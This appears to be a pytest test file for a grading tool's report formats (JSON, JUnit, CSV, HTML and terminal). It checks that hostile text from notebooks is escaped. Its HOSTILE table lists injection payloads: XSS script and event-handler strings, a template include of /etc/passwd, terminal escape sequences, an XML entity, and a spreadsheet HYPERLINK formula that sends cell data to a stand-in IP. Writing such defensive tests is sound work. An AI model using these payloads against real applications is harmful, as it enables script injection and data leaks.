"""Every form of report, from a table of reports that covers all outcomes and what a hostile notebook may say."""

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
from click.testing import CliRunner
from jsonschema import Draft202012Validator
from rich.console import Console

from checker.cli import cli
from checker.course import shown
from checker.faults import FaultKind, RunError
from checker.report.csv_report import to_csv
from checker.report.forms import FORMS, FormError, destinations, write_all
from checker.report.html import to_html, verdict_html
from checker.report.json_report import from_json, to_json
from checker.report.junit import to_junit
from checker.report.terminal import show_end, show_exercise
from checker.result import CheckResult, ExerciseResult, Outcome, Report
from checker.schema import FaultyData
from checker.text import MAX_SHOWN, printable
from scripts.browser import chromium
from tests.book.test_pages import describe
from tests.conftest import COURSE, ROOT

SCHEMA = json.loads((ROOT / "checker/report/schema.json").read_text(encoding="utf-8"))
OBJECTIVE = "hp-functions/objective"


def exercise(outcome: Outcome, *checks: CheckResult, error: RunError | None = None) -> ExerciseResult:
    return ExerciseResult(OBJECTIVE, "exercises/hp-functions/objective.ipynb", outcome, 1.5, error, checks)


def quoting(text: str) -> Report:
    """A report in which every text is `text`."""
    check = CheckResult(text, text, Outcome.NEEDS_WORK, text, text, text, (text,))
    failing = exercise(Outcome.NEEDS_WORK, check, error=RunError(FaultKind.EXCEPTION, text, 1, 1))
    return Report((replace(failing, id=text or "empty", notebook=text),), 0, "process")


NEEDS_WORK = CheckResult(
    "better",
    "The better tree gets the lower loss.",
    Outcome.NEEDS_WORK,
    "loss 0.7",
    "a lower one",
    "hp-sign",
    ("Why?",),
)
FINE = CheckResult("keys", "`objective` returns a dict.", Outcome.PASSED)
MIXED = Report(
    (
        exercise(
            Outcome.NOT_JUDGED,
            FINE,
            NEEDS_WORK,
            CheckResult("rest", "The rest.", Outcome.SKIPPED),
            CheckResult("stub", "A stub.", Outcome.NOT_ATTEMPTED),
            CheckResult("broken", "A broken check.", Outcome.NOT_JUDGED, "TypeError: no", "nothing of you"),
        ),
    ),
    7,
    "process",
)
HOSTILE = {
    "markup": "<script>alert(1)</script><img src=http://192.0.2.1/x onerror=alert(1)>&amp;</dd></table>",
    "attribute": '" onmouseover="alert(1)" \' autofocus onfocus=alert(1)',
    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}",
    "terminal": "\x1b[2J\x1b[1;1H\x1b[32m✓ passed\x1b[0m\x1b]0;title\x07 [bold]not bold[/bold]",
    "controls": "\x00\x01\x08\x0b\x0c\r\x7f\x9b31m\ufffe\uffff",
    "surrogates": "\ud800 and \udfff",
    "cdata": "]]><!-- --><?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    "long": "x" * 100_000,
    "lines": "one\ntwo\r\nthree\rfour",
    "unicode": "naïve Größe 木 🌳 \u202egnp.exe",
    "backticks": "``` `a` ` `b",
    "formula": '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "empty": "",
}
REPORTS = {
    "nothing": Report((), 0, "process"),
    "mixed": MIXED,
    **{
        outcome.value: Report((exercise(outcome, FINE),), 0, "process")
        for outcome in Outcome
        if outcome is not Outcome.SKIPPED
    },
    "unreadable": Report(
        (exercise(Outcome.NOT_JUDGED, error=RunError(FaultKind.UNREADABLE, "welcome.ipynb is empty.")),), 0, "process"
    ),
    "cell": Report(
        (exercise(Outcome.NEEDS_WORK, NEEDS_WORK, error=RunError(FaultKind.TIME, cell=3, limit=4, used=4)),),
        0,
        "process",
    ),
    "cell and line": Report(
        (exercise(Outcome.NEEDS_WORK, error=RunError(FaultKind.EXCEPTION, "NameError: hp", 3, 2)),), 0, "process"
    ),
    "machine": Report(
        (exercise(Outcome.NOT_JUDGED, error=RunError(FaultKind.MACHINE, "could not be run")),), 0, "process"
    ),
    "batch": Report(
        (exercise(Outcome.PASSED, FINE), replace(exercise(Outcome.PASSED, FINE), notebook="b.ipynb")), 0, "process"
    ),
    **{name: quoting(text) for name, text in HOSTILE.items()},
}
every_report = pytest.mark.parametrize("report", REPORTS.values(), ids=REPORTS.keys())


def test_the_schema_is_one() -> None:
    Draft202012Validator.check_schema(SCHEMA)


@every_report
def test_json_validates_and_has_every_text_whole(report: Report) -> None:
    data = json.loads(to_json(report))
    Draft202012Validator(SCHEMA).validate(data)
    assert [[c["found"] for c in e["checks"]] for e in data["exercises"]] == [
        [c.found for c in e.checks] for e in report.exercises
    ]


@every_report
def test_json_is_read_back(report: Report) -> None:
    read = from_json(to_json(report))
    assert to_json(read) == to_json(report)
    first_hints = [tuple(replace(check, hints=check.hints[:1]) for check in one.checks) for one in report.exercises]
    assert [one.checks for one in read.exercises] == first_hints


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ('"seed": 7', '"seed": "7"', 'the report: seed: expected an integer, found the text "7".'),
        (
            '"outcome": "passed"',
            '"outcome": "pass"',
            f"the report: exercises 1 ({OBJECTIVE}): checks 1 (keys): outcome: expected one of passed, needs_work, "
            'not_attempted, not_judged, skipped, found the text "pass"; did you mean passed?',
        ),
        (
            '"learner": ""',
            '"learnt": ""',
            f"the report: exercises 1 ({OBJECTIVE}): the key learner is missing.\n"
            f"the report: exercises 1 ({OBJECTIVE}): learnt: this key is unknown; did you mean learner?",
        ),
        ("}", "", "the report: not JSON: Expecting"),
    ],
)
def test_json_that_is_no_report(old: str, new: str, said: str) -> None:
    text = to_json(MIXED)
    assert old in text
    with pytest.raises(FaultyData) as faults:
        from_json(text.replace(old, new, 1))
    assert str(faults.value).startswith(said)


@every_report
def test_junit_parses_back_and_counts_what_it_holds(report: Report) -> None:
    root = ElementTree.fromstring(to_junit(report).encode("utf-8"))
    assert len(root) == len(report.exercises)
    for suite, result in zip(root, report.exercises, strict=True):
        cases = suite.findall("testcase")
        assert int(suite.attrib["tests"]) == len(cases) == len(result.checks) + (result.error is not None)
        errors = sum(c.outcome is Outcome.NOT_JUDGED for c in result.checks) + (result.error is not None)
        assert int(suite.attrib["errors"]) == len(list(suite.iter("error"))) == errors
    if report.exit_code == 3 and report is not REPORTS["not_judged"]:
        assert int(root.attrib["errors"]) > 0


def test_junit_verbatim() -> None:
    report = Report((replace(MIXED.exercises[0], id="x", notebook="x.ipynb"),), 7, "process")
    assert (
        to_junit(report)
        == """\
<?xml version="1.0" encoding="UTF-8"?>
<testsuites name="checker grade" tests="5" failures="1" errors="1" skipped="2" time="1.50">
  <testsuite name="x" tests="5" failures="1" errors="1" skipped="2" time="1.50">
    <properties>
      <property name="outcome" value="not_judged" />
      <property name="notebook" value="x.ipynb" />
      <property name="seed" value="7" />
      <property name="isolation" value="process" />
    </properties>
    <testcase classname="x" name="`objective` returns a dict." file="x.ipynb" />
    <testcase classname="x" name="The better tree gets the lower loss." file="x.ipynb">
      <failure type="needs_work" message="loss 0.7">found: loss 0.7
expected: a lower one
hint: Why?</failure>
    </testcase>
    <testcase classname="x" name="The rest." file="x.ipynb">
      <skipped type="skipped" message="skipped" />
    </testcase>
    <testcase classname="x" name="A stub." file="x.ipynb">
      <skipped type="not_attempted" message="not attempted" />
    </testcase>
    <testcase classname="x" name="A broken check." file="x.ipynb">
      <error type="not_judged" message="TypeError: no">found: TypeError: no
expected: nothing of you</error>
    </testcase>
  </testsuite>
</testsuites>
"""
    )


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("unreadable", "welcome.ipynb is empty."),
        ("cell", "cell 3 ran for 4 s; the limit is 4 s"),
        ("cell and line", "cell 3, line 2: NameError: hp"),
    ],
)
def test_junit_shows_a_run_error_with_its_place(name: str, message: str) -> None:
    error = ElementTree.fromstring(to_junit(REPORTS[name])).find("testsuite/testcase/error")
    assert error is not None
    assert error.attrib == {"type": "run_error", "message": message}


def test_junit_tells_the_notebooks_of_a_batch_apart() -> None:
    root = ElementTree.fromstring(to_junit(REPORTS["batch"]))
    assert [suite.attrib["name"] for suite in root] == [
        f"{OBJECTIVE} (exercises/hp-functions/objective.ipynb)",
        f"{OBJECTIVE} (b.ipynb)",
    ]


@every_report
def test_csv_parses_back_and_has_no_formula(report: Report) -> None:
    rows = list(csv.reader(io.StringIO(to_csv(report), newline="")))
    assert all(len(row) == 10 for row in rows)
    assert {tuple(row[-2:]) for row in rows[1:]} <= {(str(report.seed), report.isolation)}
    assert len(rows) == 1 + sum(len(e.checks) + (e.error is not None) for e in report.exercises)
    assert not [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r\n＝＋－＠")]


def test_csv_verbatim() -> None:
    error = RunError(FaultKind.EXCEPTION, "NameError: hp", 3, 2)
    report = Report((replace(MIXED.exercises[0], id="x", notebook="x.ipynb", error=error),), 7, "process")
    assert (
        to_csv(report)
        == """\
exercise,notebook,outcome,seconds,check,check_outcome,found,expected,seed,isolation
x,x.ipynb,not_judged,1.50,,,"cell 3, line 2: NameError: hp",,7,process
x,x.ipynb,not_judged,1.50,keys,passed,,,7,process
x,x.ipynb,not_judged,1.50,better,needs_work,loss 0.7,a lower one,7,process
x,x.ipynb,not_judged,1.50,rest,skipped,,,7,process
x,x.ipynb,not_judged,1.50,stub,not_attempted,,,7,process
x,x.ipynb,not_judged,1.50,broken,not_judged,TypeError: no,nothing of you,7,process
"""
    )


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\x1b[31m=1+1", "＝1"])
def test_csv_makes_a_formula_text(text: str) -> None:
    cell = list(csv.reader(io.StringIO(to_csv(quoting(text)), newline="")))[1][0]
    assert cell == f"'{printable(text)}"


class Tags(HTMLParser):
    """The elements of a page with their attributes, but for those that prose may hold."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ("code", "wbr"):
            self.found.append((tag, attrs))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_adds_nothing_to_the_page(text: str) -> None:
    page = to_html(quoting(text), COURSE)
    assert Tags(page).found == Tags(to_html(quoting("harmless"), COURSE)).found
    page.encode("utf-8")
    assert not [character for character in page if ord(character) < 32 and character not in "\t\n"]


def test_a_template_in_a_message_is_not_run() -> None:
    assert "found</dt><dd>{{ 7 * 7 }}" in to_html(quoting(HOSTILE["template"]), COURSE)


@every_report
def test_html_has_a_section_for_each_exercise(report: Report) -> None:
    assert to_html(report, COURSE).count("<section") == len(report.exercises)


def test_html_says_what_there_is_to_say() -> None:
    page = to_html(MIXED, COURSE)
    for text in (
        "An objective that survives a bad configuration",
        "<code>objective</code> returns a dict.",
        "1 not judged",
        "loss 0.7",
        "a lower one",
        "Why?",
        "book/hp-functions.html#hp-sign",
        "checker grade --seed 7",
        "1 of 5",
        "Isolation of the notebooks: process.",
    ):
        assert text in page
    for outcome in ("passed", "needs work", "not attempted", "not judged", "skipped"):
        assert f"</span> {outcome}</span>" in page, "never by colour alone"
    assert "cell 3, line 2: NameError: hp" in to_html(REPORTS["cell and line"], COURSE)


@every_report
def test_the_terminal_is_not_steered_by_what_a_notebook_says(report: Report) -> None:
    raw = io.BytesIO()
    console = Console(file=io.TextIOWrapper(raw, encoding="utf-8", write_through=True), highlight=False, width=100)
    for result in report.exercises:
        show_exercise(result, COURSE, console)
    show_end(report, COURSE, console)
    shown = raw.getvalue().decode("utf-8")
    assert not [character for character in shown if not character.isprintable() and character != "\n"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain, `code` and naïve 木", "plain, `code` and naïve 木"),
        ("\x1b[1;31mred\x1b[0m", "red"),
        ("\x1b]0;title\x07after", "after"),
        ("\x1b[2", "␛[2"),
        ("a\x00b\x7f", "a␀b␡"),
        ("a\r\nb\rc\td", "a\nb\nc\td"),
        ("\ud800\ufffe\x9b", "\ufffd\ufffd\ufffd"),
        ("x" * MAX_SHOWN, "x" * MAX_SHOWN),
        ("x" * 5000, "x" * MAX_SHOWN + "…"),
    ],
)
def test_printable(text: str, shown: str) -> None:
    assert printable(text) == shown


def test_every_report_is_written_where_it_was_asked_for(tmp_path: Path, capsysbinary: pytest.CaptureFixture) -> None:  # type: ignore[type-arg]
    files = {form: str(tmp_path / f"report.{form}") for form in FORMS} | {"csv": "-"}
    write_all(MIXED, COURSE, destinations(files))
    for form in ("json", "junit", "html"):
        assert Path(files[form]).read_bytes() == FORMS[form].render(MIXED, COURSE).encode("utf-8")
        assert Path(files[form]).read_bytes().endswith(b"\n")
    assert capsysbinary.readouterr().out == to_csv(MIXED).encode("utf-8")


def test_a_report_that_cannot_be_written_does_not_keep_the_others_from_it(tmp_path: Path) -> None:
    files = {"json": str(tmp_path / ("x" * 300)), "csv": str(tmp_path / "report.csv")}
    with pytest.raises(FormError, match=r"^The report .* could not be written \(File name too long\)\.$"):
        write_all(MIXED, COURSE, files)
    assert (tmp_path / "report.csv").read_text(encoding="utf-8") == to_csv(MIXED)


@pytest.mark.parametrize(
    ("arguments", "complaint"),
    [
        (
            ["--json", "-", "--html", "-"],
            "--json and --html cannot both go to standard output: name a file for each report.",
        ),
        (
            ["--csv", "a.x", "--junit", "./a.x"],
            "--junit and --csv cannot both go to a.x: name a file for each report.",
        ),
        (["--html", "no/where.html"], "There is no folder no to write the report no/where.html into."),
        (
            ["--json", "welcome.ipynb"],
            "The report would overwrite the notebook welcome.ipynb: give --json another file name.",
        ),
    ],
)
def test_what_cannot_be_written_is_said_before_grading(
    arguments: list[str], complaint: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    done = CliRunner().invoke(cli, ["grade", "welcome", *arguments])
    assert done.exit_code == 2
    assert done.output.splitlines()[-1] == f"Error: {complaint}"


def test_a_form_is_imported_only_when_it_is_asked_for() -> None:
    code = "import sys, checker.cli; print([m for m in sys.modules if m in ('jinja2', 'csv', 'xml.etree', 'rich')])"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, check=True)
    assert done.stdout == "[]\n"


def test_a_headline_is_one_line_in_a_narrow_terminal() -> None:
    result = ExerciseResult(
        COURSE.exercises[1].slug, "handed-in/by-anna/notebook.ipynb", Outcome.NOT_ATTEMPTED, 0.0, None, ()
    )
    console = Console(file=io.StringIO(), width=60)
    show_exercise(result, COURSE, console)
    (line,) = console.file.getvalue().splitlines()  # type: ignore[attr-defined]
    assert line.endswith("…")


@pytest.mark.parametrize(
    ("notebook", "about"),
    [
        (shown(COURSE.exercises[0].notebook), COURSE.exercises[0].title),
        (shown(COURSE.exercises[0].solution), COURSE.exercises[0].title),
        ("handed-in/anna/welcome.ipynb", "handed-in/anna/welcome.ipynb"),
    ],
)
def test_a_headline_says_whose_notebook_it_is_if_it_is_not_the_courses_own(notebook: str, about: str) -> None:
    result = ExerciseResult("welcome", notebook, Outcome.NOT_ATTEMPTED, 0.0, None, ())
    console = Console(file=io.StringIO(), width=100)
    show_exercise(result, COURSE, console)
    assert console.file.getvalue() == f"· not attempted  welcome  {about}\n"  # type: ignore[attr-defined]


def test_a_terminal_without_unicode_still_shows_the_report() -> None:
    code = "from checker.report.terminal import new_console; new_console().print('木 ␀ fine')"
    environment = {**os.environ, "PYTHONIOENCODING": "ascii"}
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, env=environment)
    assert (done.returncode, done.stdout) == (0, "? ? fine\n")


def test_the_command_writes_every_form(tmp_path: Path) -> None:
    options = [option for form in ("junit", "html", "csv") for option in (f"--{form}", str(tmp_path / form))]
    command = [
        sys.executable,
        "-m",
        "checker.cli",
        "grade",
        "solutions/welcome.ipynb",
        "--fresh",
        "--seed",
        "3",
        "--json",
        "-",
        *options,
    ]
    done = subprocess.run(command, capture_output=True, text=True, cwd=ROOT)
    assert done.returncode == 0, done.stderr
    assert "Next:" in done.stderr
    assert json.loads(done.stdout)["seed"] == 3
    assert ElementTree.parse(tmp_path / "junit").getroot().attrib["failures"] == "0"
    assert "1 passed" in (tmp_path / "html").read_text(encoding="utf-8")
    assert ",passed," in (tmp_path / "csv").read_text(encoding="utf-8")


def page_of(report: Report, scheme: str) -> str:
    return to_html(report, COURSE)


def cell_of(report: Report, scheme: str) -> str:
    """A notebook's page in JupyterLab, as far as the verdict below a cell depends on it."""
    theme = "true" if scheme == "light" else "false"
    colours = "background: #ffffff" if scheme == "light" else "background: #111111; color: #ffffff"
    body = f"<body data-jp-theme-light='{theme}' style='{colours}'><main><h1>Notebook</h1>"
    head = "<meta charset='utf-8'><meta name='viewport' content='width=device-width'><link rel='icon' href='data:,'>"
    title = "<title>Grading report: none</title>"
    return (
        f"<!DOCTYPE html><html lang='en'><head>{head}{title}</head>{body}{verdict_html(report, COURSE)}</main></html>"
    )


@pytest.mark.long
@pytest.mark.parametrize("form", [page_of, cell_of])
def test_it_reads_well_in_a_real_browser(tmp_path: Path, form: Callable[[Report, str], str]) -> None:
    from axe_playwright_python.sync_playwright import Axe

    report = Report(tuple(exercise for report in REPORTS.values() for exercise in report.exercises), 0, "process")
    file = tmp_path / "report.html"
    requests: list[str] = []
    problems: list[str] = []
    with chromium() as browser:
        for scheme in ("light", "dark"):
            page = browser.new_page(color_scheme=scheme, viewport={"width": 360, "height": 800})
            page.on("request", lambda request: requests.append(request.url))
            page.on("console", lambda message: problems.append(message.text))
            page.on("dialog", lambda dialog: dialog.dismiss() or problems.append("a script ran"))
            file.write_bytes(form(report, scheme).encode("utf-8"))
            page.goto(file.as_uri())
            page.wait_for_load_state("networkidle")
            assert page.title().startswith("Grading report: ")
            assert page.locator("section").count() == len(report.exercises)
            assert page.evaluate("document.documentElement.scrollWidth") == 360, "the page scrolls sideways"
            violations = Axe().run(page).response["violations"]
            problems.extend(describe(each) for each in violations if each["impact"] in ("serious", "critical"))
            page.close()
    assert not problems, "\n".join(problems)
    assert {url for url in requests if not url.startswith("data:")} == {file.as_uri()}
